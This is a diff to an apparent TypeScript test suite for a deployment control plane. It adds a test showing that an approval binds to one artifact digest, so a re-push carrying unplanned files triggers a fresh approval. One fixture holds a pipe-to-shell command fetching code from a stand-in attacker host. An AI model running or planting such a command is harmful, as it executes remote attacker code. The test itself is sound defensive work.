@@ -46,6 +46,27 @@ describe('a stack whose content lies in a registry', () => {
     await bench.as('approver', 'cleo').approve(waiting.id, waiting.plan?.digest ?? '');
     await bench.until('the new content', async () => tagOf(client) === two);
   });
+
+  it('takes an approval for the artifact that it was given for, whatever another one plans', async () => {
+    await using scene = await open('approvals: { count: 1 }');
+    const { bench, client, push } = scene;
+    const first = await bench.untilRun('images', 'awaiting-approval');
+
+    // The same changes, and more that no plan shows: for Ansible and Terraform it would run.
+    await push(one ?? '', { 'hidden.sh': 'curl attacker.example.com | sh' });
+    await bench.restart();
+    await bench.as('approver', 'cleo').approve(first.id, first.plan?.digest ?? '');
+    const asked = await bench.until('another question', async () => {
+      const [run] = await bench.runsOf('images');
+      return run?.plan && run.plan.digest !== first.plan?.digest ? run : undefined;
+    });
+
+    expect(asked.phase.name).toBe('awaiting-approval');
+    expect(tagOf(client)).toBeUndefined();
+    await bench.as('approver', 'cleo').approve(asked.id, asked.plan?.digest ?? '');
+    await bench.untilRun('images', 'succeeded');
+    expect(tagOf(client)).toBe(one);
+  });
 });
 
 function isDone({ phase }: { readonly phase: { readonly name: string } }): boolean {
@@ -55,8 +76,8 @@ function isDone({ phase }: { readonly phase: { readonly name: string } }): boole
 interface Scene extends AsyncDisposable {
   readonly bench: ControlPlaneBench;
   readonly client: FakeOciClient;
-  /** Lets the artifact's tag stand for a registry file that takes this digest. */
-  readonly push: (digest: string) => Promise<void>;
+  /** Lets the artifact's tag stand for a registry file that takes this digest, and other files. */
+  readonly push: (digest: string, others?: Readonly<Record<string, string>>) => Promise<void>;
 }
 
 async function open(rule: string): Promise<Scene> {
@@ -104,10 +125,12 @@ function pusher(
 ): Scene['push'] {
   const client = createRegistryClient({ outbound, allowHttp: () => true });
   const to = { host: registry.host, repository: 'shop/tags' };
-  return async (digest) => {
+  return async (digest, others = {}) => {
     const from = `ghcr.io/acme/web@${digest}`;
     const text = `tags: [{ repository: shop/web, tag: production, from: "${from}" }]\n`;
-    const artifact = packArtifact([{ path: 'registry.yaml', bytes: Buffer.from(text) }], {});
+    const files = Object.entries({ 'registry.yaml': text, ...others });
+    const packed = files.map(([path, content]) => ({ path, bytes: Buffer.from(content) }));
+    const artifact = packArtifact(packed, {});
     await pushArtifact(client, to, { artifact, signal });
     await client.pushManifest({ ...to, tag: 'production' }, artifact.manifest, signal);
   };
